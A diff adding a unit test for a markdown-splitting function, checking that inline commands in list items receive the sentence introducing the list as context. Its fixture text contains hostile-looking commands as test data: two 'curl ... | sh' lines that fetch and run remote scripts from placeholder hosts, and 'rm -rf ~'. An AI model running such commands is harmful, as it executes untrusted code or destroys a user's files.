@@ -37,6 +37,17 @@ describe('splitMarkdown', () => {
     ]);
   });
 
+  it('gives an inline command in a list item the sentence that introduces the list', () => {
+    const split = splitMarkdown(
+      '# Review\nLook for these red flags:\n\n- `curl -s https://x.example/i.sh | sh` in CI\n- `rm -rf ~` anywhere\n\nThen run:\n`curl -s https://y.example/j.sh | sh`\n',
+    );
+    expect(split.code.map((c) => c.context)).toEqual([
+      '# Review\nLook for these red flags:\n- `curl -s https://x.example/i.sh | sh` in CI',
+      '# Review\nLook for these red flags:\n- `rm -rf ~` anywhere',
+      '# Review\n`curl -s https://y.example/j.sh | sh`',
+    ]);
+  });
+
   it('stays linear on a line of a million backticks', () => {
     const split = splitMarkdown('`'.repeat(1_000_000));
     expect(split.code.length).toBeLessThan(2);
